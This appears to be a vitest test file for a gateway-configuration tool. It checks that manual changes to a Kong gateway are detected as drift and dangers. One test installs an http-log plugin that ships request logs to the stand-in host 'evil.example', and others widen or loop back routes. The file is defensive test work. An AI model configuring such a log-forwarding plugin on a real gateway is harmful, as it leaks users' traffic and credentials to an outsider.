import { generateKeyPairSync } from 'node:crypto';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { startEmbeddedKong } from '../../../../infra/stand-ins/src/kong/index.ts';
import { applyPlan } from '../../../../src/core/apply.ts';
import { changesOf, makePlan, addressOfChange } from '../../../../src/core/plan.ts';
import type { Expansion } from '../../../../src/core/plan.ts';
import { expand } from '../../../../src/patterns/index.ts';
import { createHttp } from '../../../../src/providers/http.ts';
import type { Provider } from '../../../../src/core/provider.ts';
import { fieldsOf } from '../../../../src/providers/kong/specs/index.ts';
import { createKongProvider } from '../../../../src/providers/kong/index.ts';
import type { Blueprint } from '../../../../src/blueprint/types.ts';
import { kongHand } from '../../../stack/sabotages/kong-hand.ts';
import type { KongHand } from '../../../stack/sabotages/kong-hand.ts';
import { moreKongRows } from '../../../stack/sabotages/kong-more-rows.ts';
import { kongRows } from '../../../stack/sabotages/kong-rows.ts';
import { mismatches } from '../../../stack/sabotages/table.ts';
import type { Line, Told } from '../../../stack/sabotages/table.ts';
import { env, load, sso } from '../../blueprint/loading.ts';

const rows = [...kongRows, ...moreKongRows];
const pem = generateKeyPairSync('rsa', { modulusLength: 2048 }).publicKey.export({ type: 'spki', format: 'pem' }) as string;
const addresses = { ORDERS_URL: 'http://localhost:19101', INVOICES_URL: 'http://127.0.0.1:19102', KONG_PROXY_URL: 'http://127.0.0.1:8000' };

describe('what somebody does by hand to a good gateway is told, and nothing else', () => {
  let kong: Awaited<ReturnType<typeof startEmbeddedKong>>;
  let blueprint: Blueprint;
  let wanted: Expansion;
  let hand: KongHand;
  const connect = (): Provider => ({
    fieldsOf,
    ...createKongProvider(blueprint, { admin: { url: kong.admin.url }, proxy: { url: kong.proxy.url }, edition: 'oss', store: 'database' }, {
      admin: createHttp({ target: 'kong', url: kong.admin.url }),
      proxy: createHttp({ target: 'kong', url: kong.proxy.url, freshConnections: true, tries: 1 }),
      lookUp: (names) => Promise.resolve(new Map(names.map((name) => [name, undefined]))),
    }),
  });
  const lines = async (): Promise<readonly Line[]> => {
    const provider = connect();
    const made = await makePlan([provider], wanted);
    await provider.close?.();
    return changesOf(made)
      .filter(({ action }) => action !== 'keep')
      .map((change) => ({ action: change.action, address: addressOfChange(change), ...(change.action === 'danger' && { effect: change.danger.effect }) }));
  };
  beforeAll(async () => {
    kong = await startEmbeddedKong({ adminPort: 0, proxyPort: 0, pluginDir: 'infra/kong/plugins' });
    blueprint = await load(await sso(), { env: { ...env, ...addresses } });
    hand = kongHand(kong.admin.url, blueprint.targets.keycloak?.url, kong.proxy.url);
    const { desired, deferred } = expand(blueprint);
    const ours = (address: string): boolean => address.startsWith('kong.');
    const keys = deferred.filter(({ kind }) => ours(kind)).flatMap((object) => object.expand([{ kid: 'kid-1', alg: 'RS256', pem }]));
    wanted = { name: blueprint.name, deferred: [], desired: [...desired, ...keys].filter(({ kind }) => ours(kind)).map((object) => ({ ...object, after: object.after.filter(ours) })) };
    const provider = connect();
    const results = await applyPlan({ providers: [provider], plan: await makePlan([provider], wanted), options: {} });
    await provider.close?.();
    expect(results.filter(({ outcome }) => outcome !== 'done')).toEqual([]);
  });
  afterEach(() => hand.undo());
  afterAll(() => kong.close());

  it('nothing is told of what apply made', async () => expect(await lines()).toEqual([]));

  it('a route back to the gateway is told: a plugin there may put a credential on everybody', async () => {
    await hand.service('theirs', { protocol: 'http', host: '127.0.0.1', port: Number(new URL(kong.proxy.url).port) });
    await hand.route('theirs', 'round', { paths: ['/round'] });
    expect(mismatches([{ effect: 'opens', address: /^kong\.route\/round$/ }], await lines())).toEqual([]);
  });

  it('what everybody gets by a route of ours that is wider than the blueprint says is part of the plan', async () => {
    await hand.patch('/routes/shop.orders.health', { paths: ['~/orders.*'], regex_priority: 1000 });
    const provider = connect();
    const { gains = [] } = await makePlan([provider], wanted);
    await provider.close?.();
    expect(gains.map(({ by, gain }) => [by, 'request' in gain && gain.who])).toContainEqual(['kong.route/shop.orders.health', 'anybody']);
  });

  it('what is put on a service, or on a route, is told at its line of the blueprint', async () => {
    const originOfIt = async (place: string) => {
      await hand.plugin(place, { name: 'http-log', config: { http_endpoint: 'http://evil.example:9/x' } });
      const provider = connect();
      const { dangers } = await makePlan([provider], wanted);
      await Promise.all([provider.close?.(), hand.undo()]);
      return dangers.map((change) => ('danger' in change ? change.danger.origin : undefined));
    };
    expect(await originOfIt('/services/shop.orders')).toEqual([blueprint.at('services.orders')]);
    expect(await originOfIt('/routes/shop.orders.cancel')).toEqual([blueprint.at('services.orders.routes.cancel')]);
  });

  it.each(rows)('$what', async (row) => {
    await row.do(hand);
    // How bad a change is depends on who is in the realm, which is not here: the running stack is asked that.
    const told = row.told === 'silent' ? row.told : [row.told].flat().map(({ as: _as, ...one }: Told) => one);
    expect(mismatches(told, await lines())).toEqual([]);
    await hand.undo();
    expect(await lines()).toEqual([]);
  });
});
